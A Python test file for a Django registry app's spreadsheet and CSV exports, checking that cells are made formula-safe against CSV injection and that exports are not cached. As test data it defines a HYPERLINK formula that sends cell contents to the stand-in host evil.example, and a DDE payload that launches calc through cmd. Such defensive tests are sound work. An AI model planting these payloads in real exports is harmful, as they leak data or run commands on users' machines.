"""Exports are formula-safe (OWASP CSV injection) and never cached."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

from django.urls import reverse
from openpyxl import load_workbook

from shijian.web.tabular import formula_safe, write_xlsx, write_xlsx_file
from tests.conftest import World

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe() -> None:
    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert formula_safe(text) == "'" + text
    for value in ("佛山市荷城餐饮有限公司", "", 5, -3, 1.5, None):
        assert formula_safe(value) == value


def test_an_excel_export_writes_no_formula() -> None:
    ws = load_workbook(BytesIO(write_xlsx(["name"], [[EVIL], ["-2+3"], [-7]]))).active
    cells = [ws.cell(row=r, column=1) for r in (2, 3, 4)]
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[0].value == "'" + EVIL and cells[2].value == -7


def test_the_streamed_export_writes_text_as_text_dates_as_dates_and_no_formula(tmp_path: Path) -> None:
    import datetime as dt
    from decimal import Decimal

    path = tmp_path / "big.xlsx"
    rows = [[EVIL, dt.date(2026, 12, 6), Decimal("12.50"), None], ["0012", dt.date(2020, 1, 2), 3, "http://x.cn"]]
    assert write_xlsx_file(path, ["名称", "成立日期", "出资", "备注"], iter(rows)) == 2
    ws = load_workbook(path).active
    assert [c.value for c in ws[1]] == ["名称", "成立日期", "出资", "备注"]
    assert ws["A2"].value == "'" + EVIL and ws["A2"].data_type == "s"
    assert ws["A3"].value == "0012" and ws["A3"].data_type == "s"  # a code stays text, leading zeros kept
    assert ws["B2"].value == dt.datetime(2026, 12, 6) and ws["B2"].number_format == "yyyy-mm-dd"
    assert ws["C2"].value == 12.5 and ws["C3"].value == 3
    assert ws["D2"].value is None and ws["D3"].value == "http://x.cn" and not ws["D3"].hyperlink


def test_the_entity_export_keeps_an_entity_name_as_text(world: World) -> None:
    from shijian.registry.models import Entity

    Entity.objects.filter(pk=world.entities["hecheng"].pk).update(name=EVIL)
    r = world.client("leader").get(reverse("entity_export"))
    assert r.status_code == 200
    assert "no-store" in r["Cache-Control"]
    ws = load_workbook(BytesIO(r.content)).active
    values = [c for row in ws.iter_rows(values_only=True) for c in row]
    assert EVIL not in values and "'" + EVIL in values
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_a_responsibility_note_written_by_a_town_officer_stays_text_for_the_auditor(world: World) -> None:
    from shijian.registry.models import Responsibility

    Responsibility.objects.filter(department=world.depts["hecheng"]).update(note="@SUM(1+1)*cmd|' /C calc'!A0")
    r = world.client("leader").get(reverse("responsibility_export"))
    assert r.status_code == 200
    ws = load_workbook(BytesIO(r.content)).active
    values = [c for row in ws.iter_rows(values_only=True) for c in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_the_public_results_feed_csv_is_formula_safe() -> None:
    import io

    from shijian.web.tabular import write_csv

    buf = io.StringIO()
    write_csv(buf, ["entity_name"], [[EVIL], ["ok"]])
    assert buf.getvalue().splitlines()[1].startswith("\"'=HYPERLINK")
